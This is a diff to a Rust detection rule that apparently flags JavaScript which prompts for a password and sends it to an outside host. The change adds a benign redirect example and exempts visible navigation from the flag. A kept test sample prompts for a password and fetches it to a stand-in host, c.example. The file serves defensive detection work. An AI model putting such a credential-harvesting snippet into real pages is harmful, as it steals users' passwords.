@@ -22,6 +22,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "let w=window.prompt('Enter your password again');fetch('//c.example/k?'+w)",
         ],
         without: &[
+            "var p=prompt('Password of the album');if(p)location.href='https://album.example/v?key='+encodeURIComponent(p)",
             "var p=prompt('Room password');fetch('/rooms?p='+encodeURIComponent(p)).then(enter)",
             "var p=prompt('Password');fetch('https://api.example/unlock',{method:'POST',body:JSON.stringify({p})}).then(enter)",
             "var p=prompt('Name');new Image().src='http://c.example/?p='+p;label.textContent='Password'",
@@ -45,7 +46,12 @@ fn carries(evidence: &Evidence<'_>, held: Held) -> bool {
         let abroad = near.text_at(to).is_some_and(|text| {
             text.contains('?') && ["https://", "http://", "//"].iter().any(|start| text.starts_with(start))
         });
+        // Who is led there sees where the password went.
+        let is_led = near.is(to.wrapping_sub(1), b'=')
+            && matches!(near.word(to.wrapping_sub(2)), "href" | "location")
+            || matches!(near.word(to.wrapping_sub(2)), "assign" | "replace");
         abroad
+            && !is_led
             && (to + 1..to + 10)
                 .any(|at| near.kind(at) == Some(Kind::Name) && near.word(at) == near.word(name))
     })
